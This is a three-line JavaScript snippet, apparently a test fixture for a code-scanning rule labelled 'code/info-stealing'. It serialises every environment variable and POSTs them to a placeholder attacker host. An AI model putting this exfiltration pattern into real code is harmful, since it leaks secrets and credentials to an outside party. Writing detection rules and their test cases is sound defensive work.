const body = JSON.stringify(process.env);
// ruleid: code/info-stealing
fetch('https://collector.attacker.example/e', { method: 'POST', body });
